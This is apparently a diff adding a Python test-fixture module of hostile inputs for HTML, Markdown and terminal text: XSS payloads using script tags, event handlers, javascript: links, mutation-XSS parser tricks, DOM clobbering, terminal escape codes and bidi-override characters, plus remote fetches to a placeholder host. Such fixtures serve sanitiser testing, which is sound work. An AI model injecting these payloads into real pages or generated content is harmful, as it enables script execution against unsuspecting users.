@@ -1,0 +1,90 @@
+"""What people put into pages to make them run, call home or lie."""
+
+HOME = "http://home.invalid"
+
+HTML = {
+    "script": "<script>alert(1)</script>",
+    "broken script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "script address": f"<script src='{HOME}/a.js'></script>",
+    "img onerror": "<img src=x onerror=alert(1)>",
+    "img unclosed": "<img src=x onerror=alert(1) ",
+    "img remote": f"<img src='{HOME}/a.png'>",
+    "img srcset": f"<img srcset='{HOME}/b.png 1x' alt=a>",
+    "img svg data": "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
+    "img no picture": "<img src='data:image/png;base64,aGVsbG8='>",
+    "svg onload": "<svg onload=alert(1)><circle r=9 /></svg>",
+    "svg script": "<svg><script>alert(1)</script></svg>",
+    "svg use": f"<svg><use href='{HOME}/a.svg#x'/></svg>",
+    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) />"
+    "<text y=20>x</text></a></svg>",
+    "javascript link": "<a href='javascript:alert(1)'>x</a>",
+    "javascript entity": "<a href='jav&#x09;ascript:alert(1)'>x</a>",
+    "javascript spaces": "<a href=' \x01javascript:alert(1)'>x</a>",
+    "data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "vbscript link": "<a href='vbscript:x'>x</a>",
+    "style expression": "<p style='width:expression(alert(1))'>x</p>",
+    "style url": f"<p style='background:url({HOME}/a.png)'>x</p>",
+    "style overlay": "<div style='position:fixed;inset:0;background:red'>10/10</div>",
+    "style sheet": f"<style>@import url({HOME}/a.css); body{{display:none}}</style>",
+    "style end": "<style></style><img src=x onerror=alert(1)></style>",
+    "link": f"<link rel=stylesheet href='{HOME}/a.css'>",
+    "prefetch": f"<link rel=dns-prefetch href='{HOME}'>",
+    "meta refresh": f"<meta http-equiv=refresh content='0;url={HOME}'>",
+    "iframe": f"<iframe src='{HOME}'></iframe>",
+    "iframe srcdoc": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "object": f"<object data='{HOME}/a.swf'></object><embed src='{HOME}/a.swf'>",
+    "form": f"<form action='{HOME}'><input autofocus onfocus=alert(1) name=a></form>",
+    "button": "<button formaction=javascript:alert(1)>x</button>",
+    "base": f"<base href='{HOME}/'>",
+    "body": f"<body background='{HOME}/a.png' onload=alert(1)>",
+    "table background": f"<table background='{HOME}/a.png'><tr><td>x</td></tr></table>",
+    "video": f"<video poster='{HOME}/a.png' src='{HOME}/a.mp4' autoplay></video>",
+    "audio": "<audio src onerror=alert(1)></audio>",
+    "details": "<details open ontoggle=alert(1)>x</details>",
+    "marquee": "<marquee onstart=alert(1)>x</marquee>",
+    "mathml": "<math><mtext><table><mglyph><style><!--</style>"
+    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "mathml link": "<math href='javascript:alert(1)'>x</math>",
+    "mutation noscript": "<noscript><p title='</noscript><img src=x "
+    "onerror=alert(1)>'>",
+    "mutation template": "<template><img src=x onerror=alert(1)></template>",
+    "mutation textarea": "<textarea><img title='</textarea><img src=x "
+    "onerror=alert(1)>'>",
+    "mutation comment": "<!--><img src=x onerror=alert(1)>-->",
+    "mutation cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
+    "mutation svg style": "<svg></p><style><a id='</style><img src=1 "
+    "onerror=alert(1)>'>",
+    "mutation form": "<form><math><mtext></form><form><mglyph><style></math>"
+    "<img src onerror=alert(1)>",
+    "mutation select": "<select><template><style><!--</style><a rel='--></style>"
+    "</template></select><img src=x onerror=alert(1)>'></a>",
+    "attribute quote": "<a href='https://e.org/\"onmouseover=alert(1) x=\"'>x</a>",
+    "back quotes": "<img src=`javascript:alert(1)` onerror=alert(1)>",
+    "null byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "close the page": "</div></details></main></body></html><script>alert(1)</script>",
+    "surrogate": "<b>\ud800</b><script>alert(1)</script>",
+    "clobbering": "<a id=body name=body>x</a><img name=getElementById>",
+}
+MARKDOWN = {
+    "link": "[x](javascript:alert(1))",
+    "link entity": "[x](javascript&colon;alert(1))",
+    "link reference": "[x]\n\n[x]: javascript:alert(1)",
+    "automatic link": "<javascript:alert(1)>",
+    "picture": f"![x]({HOME}/a.png)",
+    "picture quote": '![x"onerror="alert(1)](y)',
+    "picture attachment": "![x](attachment:gone.png)",
+    "title": "[x](https://e.org 'a\" onmouseover=\"alert(1)')",
+    "code": "```html\n</code></pre><script>alert(1)</script>\n```",
+    "formula": "$</span><script>alert(1)</script>$ $$\\href{javascript:alert(1)}x$$",
+    "heading": "# <img src=x onerror=alert(1)>",
+    "table": "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|2|",
+}
+TEXT = {
+    "colours": "\x1b[31mred\x1b[0m",
+    "link code": "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
+    "title code": "\x1b]0;owned\x07",
+    "bell and back": "abc\x08\x08\x07",
+    "reordered": "if access != '\u202e\u2066# admin\u2069 \u2066':",
+    "script": "<script>alert(1)</script>",
+    "half a character": "\ud83d",
+}
